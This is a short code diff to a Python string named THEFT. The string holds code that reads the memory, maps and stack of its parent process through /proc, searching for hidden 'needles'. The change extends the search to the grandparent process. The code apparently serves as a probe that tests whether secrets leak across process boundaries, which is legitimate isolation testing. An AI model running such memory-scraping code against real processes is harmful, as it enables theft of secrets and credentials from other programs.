@@ -11,6 +11,7 @@ THEFT = r"""
     import ctypes, glob, os, signal, socket, stat, struct
     needles = [text[::-1].encode() for text in NEEDLES]
     libc, us, them, uid = ctypes.CDLL(None, use_errno=True), os.getpid(), os.getppid(), os.getuid()
+    between, them = them, int(open(f"/proc/{them}/stat").read().rpartition(")")[2].split()[1])
     stolen, written, touched, tried = [], [], [], 0
 
     def look(name):
@@ -52,6 +53,7 @@ THEFT = r"""
                 touched.append(f"maps of {of}")
                 return
     memory(them)
+    memory(between)
     for name in ("mem", "maps", "auxv", "stack", "syscall", "wchan_", "personality", "pagemap"):
         try:
             with open(f"/proc/{them}/{name}", "rb") as file:
